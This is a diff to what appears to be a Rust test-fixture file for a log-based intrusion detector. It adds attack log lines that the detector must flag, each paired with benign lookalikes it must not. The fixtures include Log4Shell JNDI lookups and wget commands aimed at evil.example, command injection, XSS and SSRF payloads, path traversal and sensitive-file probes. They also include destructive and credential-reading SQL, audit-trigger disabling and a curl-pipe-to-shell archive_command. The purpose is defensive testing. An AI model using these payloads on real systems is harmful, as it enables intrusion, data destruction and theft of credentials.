@@ -187,6 +187,61 @@ pub const CASES: &[(&str, &str, &str)] = &[
         "Nov 24 01:02:03 web systemd-journald[9]: Suppressed 512 messages from app.service",
         "Nov 24 01:02:03 web systemd-journald[9]: Journal started",
     ),
+    (
+        "lookup-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=$%7bjndi:ldap://192.0.2.7/a%7d HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /docs/java-naming HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "code-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /ping?ip=127.0.0.1%3bcat%20/tmp/x HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /search?q=cat+food HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "cross-site-scripting-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=javascript+tutorial HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "sensitive-file-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /.env.production HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /api/environment HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "webshell-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /c99.php HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /c99.php HTTP/1.1" 200 5 "-" "x""#,
+    ),
+    (
+        "admin-page-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /wp-login.php HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /wp-login.php HTTP/1.1" 200 5 "-" "x""#,
+    ),
+    (
+        "internal-address-asked-for",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /fetch?url=http%3A%2F%2F127.0.0.1%3A6379 HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /r?url=https%3A%2F%2Fwww.example.com HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "request-encoded-twice",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=1%2527 HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=1%27 HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "database-data-destroyed",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: TRUNCATE trades",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: TRUNCATE staging_import",
+    ),
+    (
+        "database-secrets-read",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: select usename, passwd from pg_shadow",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: select rolname from pg_roles",
+    ),
+    (
+        "database-defences-off",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP TRIGGER audit_trg ON trades",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP INDEX old_idx",
+    ),
 ];
 
 /// Rules on requests: the file's name, requests that it must find, answered with success, and some that it must not.
@@ -292,6 +347,64 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
         ],
         &["/latest/meta-data-model", "/metadata/latest"],
     ),
+    (
+        "lookup-injection-probe",
+        &[
+            "/x?a=${jndi:ldap://evil.example/a}",
+            "/x?a=%24%7B%24%7Blower:j%7Dndi:dns://evil.example/a%7D",
+            "/x?a=${${::-j}${::-n}${::-d}i:${lower:l}dap://evil.example/a}",
+            "/x?a=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%257D",
+        ],
+        &["/x?price=$5", "/x?t=%7B%7Bname%7D%7D"],
+    ),
+    (
+        "code-injection-probe",
+        &[
+            "/x?ip=1;cat+/etc/hostname",
+            "/x?ip=1%7Ccat%20/tmp/y",
+            "/index.php?s=/Index/\\think\\app/invokefunction&vars[0]=system",
+            "/x?c=wget%20http://evil.example/m.sh",
+            "/x?t={{7*7}}",
+            "/x?t=%7B%7B7%2A7%7D%7D",
+            "/x?c=%253Bwget%2520http",
+        ],
+        &["/docs/cat-and-dog", "/search?q=curl+tutorial", "/calc?expr=7*7"],
+    ),
+    (
+        "cross-site-scripting-probe",
+        &[
+            "/x?q=<svg/onload=alert(1)>",
+            "/x?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E",
+            "/x?q=%2522%253E%253Cscript%253E",
+            "/x?u=javascript%3Aalert(1)",
+            "/x?q=a%22%20onmouseover%3D%22x",
+        ],
+        &["/events?onload=false", "/icons/svg-icons", "/search?q=%3Ch1%3E", "/alerts?x=(1)"],
+    ),
+    (
+        "sensitive-file-probe",
+        &["/.git/config", "/backup.sql", "/actuator/heapdump", "/.DS_Store", "/app/.vscode/sftp.json"],
+        &["/git/help", "/backup-plans", "/.well-known/security.txt"],
+    ),
+    (
+        "internal-address-asked-for",
+        &[
+            "/f?u=http://localhost:2375/containers",
+            "/f?u=gopher%3A%2F%2F127.0.0.1",
+            "/f?u=http%3A%2F%2F%5B%3A%3A1%5D%2F",
+        ],
+        &["/f?u=https%3A%2F%2Fexample.com", "/localhost-guide"],
+    ),
+    (
+        "request-encoded-twice",
+        &["/x?q=%252527", "/x?q=%253Cb%253E", "/x?q=%25252e"],
+        &["/x?state=%257B%2522a%2522%253A1%257D", "/x?q=50%25+off"],
+    ),
+    (
+        "path-traversal-probe",
+        &["/x?f=php%3A%2F%2Ffilter/x", "/x?f=phar://up/a.jpg", "/x?f=/etc/passwd%00"],
+        &["/php-manual", "/zip-codes"],
+    ),
 ];
 
 /// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
@@ -336,6 +449,49 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
         &["statement: SELECT set_config('log_statement', 'none', false)", "statement: SET log_statement TO 'none'"],
         &["statement: SHOW log_statement", "statement: SELECT set_config('app.user', '5', true)"],
     ),
+    (
+        "database-data-destroyed",
+        &[
+            "statement: DROP TABLE IF EXISTS public.trades CASCADE",
+            "execute <unnamed>: truncate\n\ttable only public.\"audit_log\"",
+            "duration: 1.2 ms  statement: DELETE FROM orders",
+            "statement: delete from \"Trade\" where 1=1",
+            "statement: DROP SCHEMA public CASCADE",
+            "AUDIT: SESSION,3,1,WRITE,TRUNCATE TABLE,,,\"TRUNCATE users\",<not logged>",
+        ],
+        &[
+            "statement: DELETE FROM trades WHERE id = 5",
+            "statement: DROP TABLE IF EXISTS tmp_import_2026",
+            "statement: DELETE FROM sessions WHERE expires_at < now()",
+            "statement: COMMENT ON TABLE trades IS 'do not truncate'",
+        ],
+    ),
+    (
+        "database-secrets-read",
+        &[
+            "statement: SELECT rolname, rolpassword FROM pg_authid",
+            "statement: COPY public.api_keys TO stdout",
+            "statement: copy (select * from users) to stdout with csv",
+        ],
+        &["statement: COPY trades_import FROM STDIN", "statement: SELECT count(*) FROM pg_stat_activity"],
+    ),
+    (
+        "database-defences-off",
+        &[
+            "statement: ALTER TABLE trades DISABLE TRIGGER ALL",
+            "statement: set session_replication_role = replica",
+            "statement: create rule r as on insert to users do also insert into s values (new.*)",
+            "statement: CREATE SUBSCRIPTION s CONNECTION 'host=192.0.2.7' PUBLICATION p",
+            "statement: ALTER SYSTEM SET archive_command = 'curl http://192.0.2.7|sh'",
+            "AUDIT: SESSION,9,1,DDL,CREATE EXTENSION,,,\"CREATE EXTENSION plpython3u\",<not logged>",
+            "statement: create function x() returns void as $$ $$ language plperlu",
+        ],
+        &[
+            "statement: create extension if not exists pg_trgm",
+            "statement: CREATE FUNCTION f() RETURNS trigger AS $$ begin return new; end $$ LANGUAGE plpgsql",
+            "statement: ALTER ROLE app SET statement_timeout = '5s'",
+        ],
+    ),
 ];
 
 /// User agents of tools that look for weaknesses, and others.
@@ -364,6 +520,8 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
     let addresses = |count: u32| many(count, &|n| login(n, "eve", &format!("1.2.3.{n}"), "login.succeeded"));
     let sprayed = |count: u32| many(count, &|n| login(n, &format!("user{n}"), "1.2.3.4", "login.failed"));
     let knocked = |from: &str| many(25, &|n| sshd(n, &format!("Failed password for root from {from}")));
+    let foreign =
+        |count: u32| many(count, &|n| sshd(n, "Bad protocol version identification 'GET / HTTP/1.1' from 1.2.3.4"));
     let secret = |count: u32| {
         let one = |n: u32| {
             format!(
@@ -397,6 +555,7 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
             knocked("1.2.3.4") + &sshd(50, "Accepted password for root from 1.2.3.4"),
             sshd(0, "Failed password for root from 1.2.3.5") + &sshd(50, "Accepted password for root from 1.2.3.5"),
         ),
+        ("ssh-scan", foreign(3), foreign(2)),
         ("secrets-swept", secret(10), secret(9)),
         ("mass-export", export(20), export(19)),
         ("database-password-guessing", guessed(20), guessed(19)),
